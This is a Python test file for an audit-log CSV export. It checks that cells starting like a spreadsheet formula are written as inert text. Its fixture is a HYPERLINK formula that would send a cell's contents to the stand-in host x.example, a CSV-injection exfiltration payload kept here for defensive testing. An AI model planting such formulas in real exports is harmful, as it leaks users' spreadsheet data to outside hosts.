"""Every CSV the engine writes shows a cell that would start a formula as text (OWASP, "CSV
Injection"): `audit export --format csv` and the console's export share one writer
(workflows/read/auditlog.py, `spreadsheet`)."""
from __future__ import annotations

import csv
import io

from storage.console import refresh_search
from tests.builders import application_data
from workflows.read import auditlog

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


def test_a_candidate_named_as_a_formula_reaches_the_spreadsheet_as_text(driver):
    data = application_data(candidate={"name": FORMULA, "email": "x@hill.example.org"},
                            school={"name": "+Hill"}, supporting_evidence="-1+2")
    case = driver.open(data=data).case
    refresh_search(driver.engine.db)
    rows = list(auditlog.spreadsheet(driver.engine.db, auditlog.ExportFilter(case, None, None,
                                                                             None),
                                     driver.engine.config.calendars().national(),
                                     "2027-01-01T00:00:00+00:00"))
    first = dict(zip(rows[0], rows[1]))
    assert first["name"] == "'" + FORMULA
    assert first["school"] == "'+Hill"
    assert first["case"] == case   # an ordinary cell is left as it is
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    written = io.StringIO()
    csv.writer(written).writerows(rows)
    read_back = list(csv.reader(io.StringIO(written.getvalue())))
    assert dict(zip(read_back[0], read_back[1]))["name"] == "'" + FORMULA


def test_inert_leaves_text_alone_and_marks_each_formula_start():
    assert auditlog.inert("Ann Lee") == "Ann Lee"
    assert auditlog.inert("") == ""
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert auditlog.inert(start + "1") == "'" + start + "1"
